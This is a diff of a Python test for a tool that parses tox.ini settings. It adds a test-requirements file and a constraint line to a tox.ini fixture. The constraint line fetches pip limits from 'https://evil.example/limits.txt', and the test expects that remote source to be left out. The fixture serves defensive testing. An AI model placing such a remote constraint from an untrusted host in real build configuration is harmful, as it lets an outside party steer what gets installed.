@@ -88,6 +88,8 @@ deps =
     {[base]deps}
     py37: typing-extensions
     -rrequirements.txt
+    -r{toxinidir}/test-requirements.txt
+    -c{env:LIMITS:https://evil.example/limits.txt}
 commands =
     pytest --basetemp={envtmpdir} \\
         {posargs:tests unit}
@@ -108,8 +110,8 @@ def test_an_environment_of_tox() -> None:
         tool="tox",
         found="tox.ini, [testenv]",
         commands=("pytest --basetemp=${TMPDIR:-/tmp}/tox tests unit",),
-        install=(".", "pytest", "coverage", "-r requirements.txt"),
-        left_out=("py37: typing-extensions",),
+        install=(".", "pytest", "coverage", "-r requirements.txt", "-r test-requirements.txt"),
+        left_out=("-c {env:LIMITS:https://evil.example/limits.txt}", "py37: typing-extensions"),
     )
     assert way.with_pytest
 
